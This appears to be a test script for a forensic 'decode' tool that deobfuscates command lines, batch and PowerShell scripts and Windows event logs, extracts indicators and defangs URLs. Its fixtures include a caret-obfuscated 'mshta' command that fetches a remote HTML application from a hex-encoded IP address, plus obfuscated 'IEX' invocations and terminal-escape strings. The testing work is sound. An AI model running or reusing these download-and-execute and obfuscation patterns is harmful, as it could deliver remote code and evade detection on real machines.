#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""`sekisho decode`: scripts, command lines, event logs; layers, indicators, formats, hostile text.

usage: test_decode.py BUILD_FOLDER
"""
import json
import os
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import Test  # noqa: E402

MSHTA = 'cmd /c m^sh^t^a h^tt^p^:/^/0xb907d607/fer/fe3.html'
PLAIN = 'cmd /c mshta http://0xb907d607/fer/fe3.html'


def usage(t, case, folder):
    for args, words in [((), b'give a script'), (('--format', 'xml', 'x'), b'text or json'), (('--nosuch',), b'no such option'),
                        (('--kind', 'perl', '-c', 'x'), b'no script kind')]:
        code, out, err = t.run('decode', *args)
        t.check(code == 2 and words in err and out == b'', f'decode {args}: exit {code}, {err[:200]}')
    code, out, err = t.run('decode', '--help')
    t.check(code == 0 and b'executed' in out, 'decode --help')
    code, _, err = t.run('decode', os.path.join(folder, 'missing.ps1'))
    t.check(code == 4 and b'missing.ps1' in err, f'a script that is not there: exit {code}')
    log = os.path.join(case, 'PC-ACCT-02', 'System.evtx')
    t.check(t.run('decode', '-c', 'x', '-o', log)[0] == 2, 'an output onto a log is refused')
    script = os.path.join(folder, 'mine.ps1')
    with open(script, 'w', encoding='ascii') as handle:
        handle.write('Get-Date')
    t.check(t.run('decode', script, '-o', script)[0] == 2, 'a script is not replaced by its own layers')


def command_lines(t):
    code, out, err = t.run('decode', '-c', MSHTA)
    text = out.decode()
    t.check(code == 0 and PLAIN in text and 'caret x7' in text and err == b'', f'the layers of a command line: {text}')
    t.check('hxxp://185[.]7[.]214[.]7/fer/fe3.html  [bare-address, numeric]' in text, 'its URL, made harmless')
    t.check(t.run('decode', '--final', '-c', MSHTA)[1].decode() == PLAIN + '\n', '--final')
    code, out, _ = t.run('decode', '-f', 'json', '-c', MSHTA, '-c', 'whoami')
    first, second = [json.loads(line) for line in out.splitlines()]
    t.check([l['text'] for l in first['layers']] == [MSHTA, PLAIN], 'layers as JSON')
    t.check(first['layers'][1]['steps'] == [{'name': 'caret', 'count': 7}] and first['layers'][1]['folded'], 'steps as JSON')
    url = [i for i in first['indicators'] if i['type'] == 'url'][0]
    t.check(url['value'] == 'http://185.7.214.7/fer/fe3.html' and url['written'] == 'http://0xb907d607/fer/fe3.html'
            and url['defanged'].startswith('hxxp://185[.]7') and url['seen'][0]['layer'] == 1, f'an indicator: {url}')
    t.check(len(second['layers']) == 1 and not second['partial'], 'a plain command line has one layer')


def scripts(t, folder):
    batch = '@echo off\r\nset a=who\r\n%a%ami\r\n'
    for name, data in [('a.bat', batch.encode()), ('b.bat', b'\xff\xfe' + batch.encode('utf-16le')),
                       ('c.cmd', batch.encode('utf-16le')), ('d.bat', b'\xfe\xff' + batch.encode('utf-16be')),
                       ('e.txt', b'\xef\xbb\xbf' + batch.encode())]:
        path = os.path.join(folder, name)
        with open(path, 'wb') as handle:
            handle.write(data)
        code, out, _ = t.run('decode', '--final', path)
        t.check(code == 0 and out.decode().endswith('whoami\n'), f'{name}: {out!r}')
    code, out, _ = t.run('decode', '--kind', 'cmd', '--final', '-', stdin=batch.encode())
    t.check(code == 0 and out.decode().endswith('whoami\n'), f'standard input: {out!r}')
    empty = os.path.join(folder, 'empty.ps1')
    with open(empty, 'wb'):
        pass
    t.check(t.run('decode', empty)[0] == 0, 'an empty script')


def hostile(t, folder):
    """Nothing of a script steers a terminal; --final gives the bytes as they are to a file."""
    script = 'echo \x1b[31m\u202e w^hoami\x07'
    _, out, _ = t.run('decode', '--kind', 'cmd', '-', stdin=script.encode())
    t.check(b'\x1b' not in out and b'\x07' not in out and '\u202e'.encode() not in out and b'\\u001b' in out, f'{out!r}')
    _, out, _ = t.run('decode', '-f', 'json', '--kind', 'cmd', '-', stdin=script.encode())
    t.check(b'\x1b' not in out and '\x1b[31m' in json.loads(out)['layers'][0]['text'], 'JSON keeps it, escaped')
    target = os.path.join(folder, 'final.txt')
    t.run('decode', '--kind', 'cmd', '--final', '-o', target, '-', stdin=script.encode())
    with open(target, 'rb') as handle:
        t.check(b'\x1b[31m' in handle.read(), '--final to a file is not changed')
    bad = os.path.join(folder, 'bad.bat')
    with open(bad, 'wb') as handle:
        handle.write(b'w^hoami \xff\xfe\x80 \x00\xc3')
    t.check(t.run('decode', bad)[0] == 0 and t.run('decode', '-f', 'json', bad)[0] == 0, 'bytes that are no text')


def logs(t, case):
    code, out, err = t.run('decode', '-f', 'json', '--all', case)
    texts = [json.loads(line) for line in out.splitlines()]
    fields = {x['event']['field'] for x in texts}
    t.check(code == 0 and len(texts) > 20 and 'CommandLine' in fields, f'texts of event logs: {len(texts)}, {fields}')
    hidden = [x for x in texts if len(x['layers']) > 1]
    shown = t.run('decode', '-f', 'json', case)[1].splitlines()
    t.check(len(shown) == len(hidden), f'without --all only what hides something: {len(shown)}, {len(hidden)}')
    t.check(f'something hidden in {len(hidden)}'.encode() in err, f'the count: {err[-200:]}')
    carets = [x for x in hidden if 'P^Ow^er' in x['layers'][0]['text']]
    t.check(carets and all('POwersheLL' in x['layers'][1]['text'] for x in carets), 'carets of the case')
    t.check(t.run('decode', '-f', 'json', case)[1] == t.run('decode', '-f', 'json', case)[1], 'the same bytes again')
    text = t.run('decode', case)[1].decode()
    t.check('Indicators' in text and 'record' in text, 'as text')
    code, _, err = t.run('decode', '-', stdin=open(os.path.join(case, 'PC-ACCT-02', 'Security.evtx'), 'rb').read())
    t.check(code == 4 and b'name the file' in err, 'a log from standard input is refused')


def make_log(t, folder, name, lines):
    path = os.path.join(folder, name)
    subprocess.run([os.path.join(t.build, 'test/make_scripts'), path], input='\n'.join(lines) + '\n', text=True, check=True)
    return path


def parts(t, folder):
    """Scripts that were logged in parts: joined over files, what is missing said, nothing folded across."""
    first = make_log(t, folder, 'part1.evtx', ["2 2 id-a et-'+'Date a'); $b", "1 4 id-b $x='Wri'; &('I'+'EX') 'a", 'chunk', '1 1 id-c Get-Item'])
    second = make_log(t, folder, 'part2.evtx', ["1 2 id-a $a = 1; iex ('G", "3 4 id-b &($x + 'te-Host') 1; iex ('Get-'+'Item b')"])
    code, out, err = t.run('decode', '-f', 'json', '--all', first, second)
    whole, broken, plain = sorted((json.loads(line) for line in out.splitlines()), key=lambda x: len(x['layers'][0]['text']), reverse=True)[:3]
    whole, broken = sorted([whole, broken], key=lambda x: x['event']['script']['total'])
    t.check(code == 0 and 'script' not in plain['event'], f'a script in one event is one: {plain}')
    script = whole['event']['script']
    t.check(script['missing'] == '' and [(p['part'], os.path.basename(p['file'])) for p in script['events']]
            == [(1, 'part2.evtx'), (2, 'part1.evtx')], f'parts of two files: {script}')
    t.check(whole['layers'][-1]['text'] == 'Get-Date a' and not whole['partial'], f'joined and decoded: {whole["layers"]}')
    script = broken['event']['script']
    t.check(script['missing'] == '2, 4' and script['parts'] == 2 and broken['partial']
            and all(layer['partial'] for layer in broken['layers']), f'what is missing: {script}')
    t.check(broken['layers'][1]['text'].endswith("&($x + 'te-Host') 1; iex 'Get-Item b'"), f'nothing across: {broken["layers"]}')
    t.check(b'parts are missing of 1' in err, f'the summary says so: {err}')
    text = t.run('decode', first, second)[1].decode()
    t.check('ScriptBlockText, 2 of 4 parts, missing 2, 4' in text and 'ScriptBlockText, 2 of 2 parts' in text, f'as text: {text}')


def again(t, folder):
    """A text that comes again is shown once; everything else of it is kept."""
    log = make_log(t, folder, 'again.evtx', ["1 1 id-a &('I'+'EX') 'whoami'", '1 1 id-b Get-Item', "1 1 id-c &('I'+'EX') 'whoami'"])
    text = t.run('decode', log)[1].decode()
    t.check(text.count('--- layer 0') == 1 and text.count('the same text as above: ') == 1, f'shown once: {text}')
    t.check(text.count('ScriptBlockText\n') == 3, f'both places and the first again are named: {text}')
    lines = t.run('decode', '-f', 'json', log)[1].splitlines()
    t.check(len(lines) == 2, f'JSON has both: {lines}')


def main():
    t = Test(sys.argv[1])
    with tempfile.TemporaryDirectory() as folder:
        case = t.make_case(folder)
        usage(t, case, folder)
        command_lines(t)
        scripts(t, folder)
        hostile(t, folder)
        logs(t, case)
        parts(t, folder)
        again(t, folder)
    t.end()


main()
